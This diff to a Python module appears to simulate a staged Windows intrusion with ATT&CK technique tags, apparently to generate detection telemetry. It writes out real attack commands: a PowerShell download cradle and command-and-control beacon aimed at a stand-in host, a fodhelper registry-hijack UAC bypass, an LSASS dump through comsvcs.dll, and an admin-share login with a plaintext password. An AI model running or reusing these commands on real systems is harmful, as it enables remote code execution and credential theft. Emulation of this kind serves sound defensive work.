@@ -27,7 +27,7 @@ _LURE = (
 _HKU = "HKU\\S-1-5-21-2718640391-1147325508-3390175624-1613"
 _HOST = "cdn.tideline-claims.example"
 _ADDRESS = "203.0.113.68"
-_CRADLE = f"$c=New-Object Net.WebClient;$c.Headers.Add('X-Quay','88213');IEX($c.DownloadString('https://{_HOST}/q3/freight.txt'))"
+_CRADLE = f"$c=New-Object Net.WebClient;$c.Headers.Add('X-Quay','88213');IEX($c.DownloadString('https://{_HOST}:8447/q3/freight.txt'))"
 _SCRIPT = "C:\\Users\\Public\\Libraries\\prnsync.ps1"
 _DUMP = "C:\\Users\\Public\\Libraries\\tally.bin"
 _TASK = f"""<?xml version="1.0" encoding="UTF-16"?>
@@ -89,7 +89,7 @@ def _stage(intruder: Intruder, shell: Process) -> None:
     script(machine, intruder.after(1.2), shell, _CRADLE)
     intruder.plans("The cradle fetches its second stage", "T1105", "T1071.001")
     machine.resolve(intruder.after(0.4), shell, _HOST, f"::ffff:{_ADDRESS};")
-    machine.connect(intruder.after(0.3), shell, _ADDRESS, 443)
+    machine.connect(intruder.after(0.3), shell, _ADDRESS, 8447)
     intruder.plans("The second stage is stored as a script", "T1105")
     machine.create(intruder.after(2.5), shell, _SCRIPT)
     intruder.plans("The second stage beacons", "T1071.001", "T1059.001")
@@ -97,9 +97,9 @@ def _stage(intruder: Intruder, shell: Process) -> None:
         machine,
         intruder.after(0.9),
         shell,
-        f"while($true){{$t=Invoke-RestMethod -Uri https://{_HOST}/t/$env:COMPUTERNAME -UserAgent 'QuayTally/2';"
+        f"while($true){{$t=Invoke-RestMethod -Uri https://{_HOST}:8447/t/$env:COMPUTERNAME -UserAgent 'QuayTally/2';"
         "if($t.j){$o=(IEX $t.j 2>&1|Out-String);Invoke-RestMethod -Method Post -Body $o "
-        f"-Uri https://{_HOST}/r/$($t.i)|Out-Null}};Start-Sleep -Seconds (Get-Random -Min 40 -Max 75)}}",
+        f"-Uri https://{_HOST}:8447/r/$($t.i)|Out-Null}};Start-Sleep -Seconds (Get-Random -Min 40 -Max 75)}}",
     )
 
 
@@ -148,9 +148,9 @@ def _persist(intruder: Intruder, shell: Process) -> None:
 def _bypass_uac(intruder: Intruder, shell: Process) -> Process:
     machine = intruder.machine
     intruder.plans("A hijacked registry handler raises rights without a prompt", "T1548.002")
-    handler = f"{_HKU}_Classes\\ms-settings\\Shell\\Open\\command"
-    machine.set_value(intruder.after(45), shell, f"{handler}\\(Default)", f"powershell.exe -w 1 -f {_SCRIPT} -k")
-    machine.set_value(intruder.after(0.2), shell, f"{handler}\\DelegateExecute", "(Empty)")
+    handler = f"{_HKU}_Classes\\.tally\\Shell\\Open\\command\\(Default)"
+    machine.set_value(intruder.after(45), shell, handler, f"powershell.exe -w 1 -f {_SCRIPT} -k")
+    machine.set_value(intruder.after(0.2), shell, f"{_HKU}_Classes\\ms-settings\\CurVer\\(Default)", ".tally")
     high = msgspec.structs.replace(shell.user, integrity="High", logon_id="0x5b77e1")
     helper = intruder.runs(shell, "fodhelper", '"C:\\Windows\\system32\\fodhelper.exe"', wait=2.2, user=high)
     return intruder.runs(helper, "powershell", f"powershell.exe -w 1 -f {_SCRIPT} -k", wait=0.8)
@@ -192,13 +192,11 @@ def _steal_credentials(intruder: Intruder, raised: Process) -> None:
         f'"C:\\Windows\\system32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll,#24 {lsass.pid} {_DUMP} full',
         wait=0.5,
     )
-    machine.load(intruder.after(0.2), dumping, programs()["dbgcore"], signature="Microsoft Windows")
-    machine.access(intruder.after(0.1), dumping, lsass, "0x1fffff", "C:\\Windows\\System32\\comsvcs.dll")
+    machine.access(intruder.after(0.3), dumping, lsass, "0x1fffff", "C:\\Windows\\System32\\comsvcs.dll")
     machine.create(intruder.after(0.6), dumping, _DUMP)
 
 
 def _cross_over(intruder: Intruder, raised: Process) -> None:
-    machine = intruder.machine
     intruder.plans("The administrator's account opens the server's admin share", "T1021.002")
     intruder.runs(
         raised,
@@ -206,8 +204,6 @@ def _cross_over(intruder: Intruder, raised: Process) -> None:
         '"C:\\Windows\\system32\\net.exe" use \\\\LMR-FS-02\\ADMIN$ /user:LARKMOOR\\nfossum-adm Skerry-4471-quay',
         wait=640,
     )
-    kernel = intruder.cast.running("ws", "system", "system")
-    machine.connect(intruder.after(0.2), kernel, "10.44.2.52", 445, "LMR-FS-02.larkmoor.example")
     intruder.plans("A tool is copied to the server", "T1570", "T1021.002")
     intruder.runs(
         raised,
